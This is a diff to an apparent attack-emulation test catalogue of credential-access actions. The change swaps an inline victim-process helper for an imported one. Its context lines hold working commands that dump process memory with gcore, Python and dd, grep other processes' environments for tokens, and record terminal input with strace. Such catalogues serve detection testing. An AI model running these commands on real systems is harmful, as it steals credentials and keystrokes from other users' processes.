@@ -1,5 +1,5 @@
 import type { Action } from '../action.ts'
-import { received, webServer } from '../loopback-server.ts'
+import { received, sleepingVictim, webServer } from '../loopback-server.ts'
 
 const readInC = (path: string) => `
 #include <fcntl.h>
@@ -37,7 +37,6 @@ int main() {
 
 const hashes = 'grep -q ann: $OUT'
 const key = 'grep -q OPENSSH $OUT'
-const victim = 'sleep 100 & echo $! >/run/victim'
 
 /** Passwords, keys and tokens. */
 export const credentialAccess: readonly Action[] = [
@@ -120,7 +119,7 @@ export const credentialAccess: readonly Action[] = [
     title: 'Memory of a process dumped by gcore',
     technique: 'T1003.007',
     needs: ['gcore'],
-    before: victim,
+    before: sleepingVictim,
     run: 'gcore -o /tmp/core $(cat /run/victim)',
     effect: 'ls /tmp/core.*',
   },
@@ -128,7 +127,7 @@ export const credentialAccess: readonly Action[] = [
     id: 'memory-python',
     title: 'Memory of a process read by a Python program',
     technique: 'T1003.007',
-    before: victim,
+    before: sleepingVictim,
     program: {
       language: 'python',
       text: 'import re, sys\np = sys.argv[1]\nm = re.search(r"(\\w+)-(\\w+) rw.*stack", open("/proc/%s/maps" % p).read())\nf = open("/proc/%s/mem" % p, "rb", 0); f.seek(int(m[1], 16)); print(len(f.read(4096)))',
@@ -140,7 +139,7 @@ export const credentialAccess: readonly Action[] = [
     id: 'memory-dd',
     title: 'Memory of a process read by dd',
     technique: 'T1003.007',
-    before: victim,
+    before: sleepingVictim,
     run: `read -r pid </run/victim
 at=$(sed -n '/stack/s/-.*//p' /proc/$pid/maps)
 dd if=/proc/$pid/mem bs=4096 count=1 skip=$((0x$at / 4096)) of=/tmp/m`,
@@ -150,7 +149,7 @@ dd if=/proc/$pid/mem bs=4096 count=1 skip=$((0x$at / 4096)) of=/tmp/m`,
     id: 'environment-of-others',
     title: 'Environment of other processes read',
     technique: 'T1003.007',
-    before: `TOKEN=secret ${victim}`,
+    before: `TOKEN=secret ${sleepingVictim}`,
     run: 'cat /proc/*/environ | tr "\\0" "\\n" | grep TOKEN',
     effect: 'grep -q secret $OUT',
   },
@@ -363,7 +362,7 @@ s.settimeout(2); print("got" if b"pw" in s.recv(999) else "")`,
     title: 'Input of a terminal recorded by strace',
     technique: 'T1056.001',
     needs: ['strace'],
-    before: victim,
+    before: sleepingVictim,
     run: 'timeout 1 strace -f -e trace=read -p $(cat /run/victim) -o /tmp/k; :',
     effect: '[ -e /tmp/k ]',
   },
